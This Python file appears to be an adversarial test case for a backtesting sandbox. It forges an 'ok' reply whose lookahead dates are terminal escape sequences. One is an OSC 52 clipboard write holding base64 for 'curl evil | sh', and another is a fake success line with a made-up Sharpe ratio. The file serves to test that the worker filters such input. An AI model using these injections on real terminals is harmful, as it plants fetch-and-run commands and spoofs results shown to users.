"""Forge an "ok" reply whose look-ahead dates are terminal escape sequences.

Attack (own): hoping the worker copies the ``lookahead`` strings of a reply into the result
(an earlier design did, and ``strategies check`` printed the first one). They are OSC/CSI
sequences (clear screen, set the window title, write the clipboard with OSC 52) and a fake "ok"
line after a newline. The positions are "always long".
Stopped by: the worker decides the look-ahead cuts itself (in a blind process) and reads only
``ok``, the error text (escaped, capped) and the positions from a reply; outputs are one
printable line. The metrics stay buy and hold.
"""
# honest-positions: long

import fcntl
import json
import os
import stat
import struct

import numpy as np

PARAMETERS = {}

EVIL = [
    "\x1b[2J\x1b[H\x1b]0;pwned\x07",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "2020-01-01\nok   control: 99 trades, Sharpe 76.00",
]


def _reply_fd():
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and (
                fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
            ):
                return fd
        except OSError:
            continue
    raise RuntimeError("no reply pipe found")


def generate_positions(data, **params):
    header = json.dumps({"ok": True, "lookahead": EVIL * 40}).encode()
    body = np.ones(len(data), dtype=np.float64).tobytes()
    frame = struct.pack("!QQ", len(header), len(body)) + header + body
    fd = _reply_fd()
    view = memoryview(frame)
    while view:
        view = view[os.write(fd, view) :]
    os._exit(0)
